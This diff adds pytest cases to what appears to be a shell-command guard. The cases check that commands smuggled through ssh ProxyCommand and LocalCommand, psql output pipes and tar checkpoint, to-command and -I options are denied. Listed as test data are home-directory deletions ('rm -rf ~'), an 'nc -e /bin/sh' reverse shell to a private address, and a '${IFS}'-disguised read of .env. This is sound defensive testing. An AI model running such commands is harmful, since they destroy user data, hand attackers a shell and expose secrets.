@@ -129,6 +129,29 @@ def test_code_attached_to_its_flag_is_read_as_code() -> None:
     assert decide("destructive_rm", "perl -ne 'print if /x/' notes.txt") == "allow"
 
 
+@inprocess
+@pytest.mark.parametrize(("command", "decision"), [
+    ("ssh '-oProxyCommand=rm -rf ~' foo@foo", "deny"),
+    ("ssh -o 'ProxyCommand nc -e /bin/sh 10.0.0.1 4242' host", "deny"),
+    ("scp -o ProxyCommand='rm -rf ~' a.txt host:", "deny"),
+    ("ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf ~' host", "deny"),
+    ("psql -o'|rm -rf ~'", "deny"),
+    ("psql --output='|rm -rf ~' -c 'select 1'", "deny"),
+    ("tar cf archive.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' src", "deny"),
+    ("tar xf a.tar --to-command='rm -rf ~'", "deny"),
+    ("tar -I 'rm -rf ~' -cf a.tar src", "deny"),
+    # the everyday uses of the same options
+    ("ssh -o ProxyCommand='ssh -W %h:%p bastion' db.internal", "allow"),
+    ("ssh -o StrictHostKeyChecking=no dev@staging", "allow"),
+    ("psql -o report.txt -c 'select 1'", "allow"),
+    ("tar --checkpoint=1000 --checkpoint-action=dot -czf a.tgz src", "allow"),
+    ("tar -I zstd -xf deps.tar.zst", "allow"),
+    ("tar --use-compress-program='zstd -19' -cf a.tar.zst src", "allow"),
+])
+def test_a_command_a_program_runs_from_its_own_options_is_judged(command: str, decision: str) -> None:
+    assert pack(command) == decision, command
+
+
 def test_an_ifs_disguise_through_the_installed_executable(project: Project) -> None:
     assert forge_hook(project, "guard", "test", "secret_files", "--", "cat${IFS}.env").exit_status == 1
     assert forge_hook(project, "guard", "test", "secret_files", "--", "cat${IFS}README.md").exit_status == 0
